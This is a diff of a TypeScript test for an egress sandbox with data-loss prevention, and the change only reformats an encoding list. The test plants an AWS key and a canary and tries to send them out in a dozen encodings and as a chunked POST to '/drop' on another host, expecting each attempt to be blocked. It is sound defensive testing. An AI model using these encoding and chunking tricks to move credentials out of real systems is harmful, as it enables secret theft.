@@ -3,7 +3,20 @@ import { expect } from 'vitest';
 import { forEachTier } from '../support/attack.ts';
 import { EgressBox } from '../support/egress-box.ts';
 
-const SPELLINGS = ['raw', 'base64', 'base64url', 'hex', 'HEX', 'gzip', 'json', 'unicode', 'url', 'twice', 'multipart', 'form'];
+const SPELLINGS = [
+  'raw',
+  'base64',
+  'base64url',
+  'hex',
+  'HEX',
+  'gzip',
+  'json',
+  'unicode',
+  'url',
+  'twice',
+  'multipart',
+  'form',
+];
 
 forEachTier('a planted key and a canary are refused in every spelling', async (tier) => {
   await using box = new EgressBox(tier, { dlp: true });
@@ -26,7 +39,9 @@ for what, text in (('key', f'aws_access_key_id={key}'), ('canary', os.environ['C
     raw(f'{what}-chunks', head('POST', '/drop', ('Connection: close', 'Transfer-Encoding: chunked'), OTHER) + pieces + b'0\\r\\n\\r\\n', OTHER)
 control()
 `);
-  const names = ['key', 'canary'].flatMap((what) => [...SPELLINGS, 'chunks'].map((name) => `${what}-${name}`));
+  const names = ['key', 'canary'].flatMap((what) =>
+    [...SPELLINGS, 'chunks'].map((name) => `${what}-${name}`),
+  );
   box.expectHeld(result, Object.fromEntries(names.map((name) => [name, '403 network.dlp'])));
   const kinds = box.refusals().flatMap((data) => JSON.stringify(data['dlp']));
   expect(kinds.filter((text) => text.includes('canary')).length).toBeGreaterThan(10);
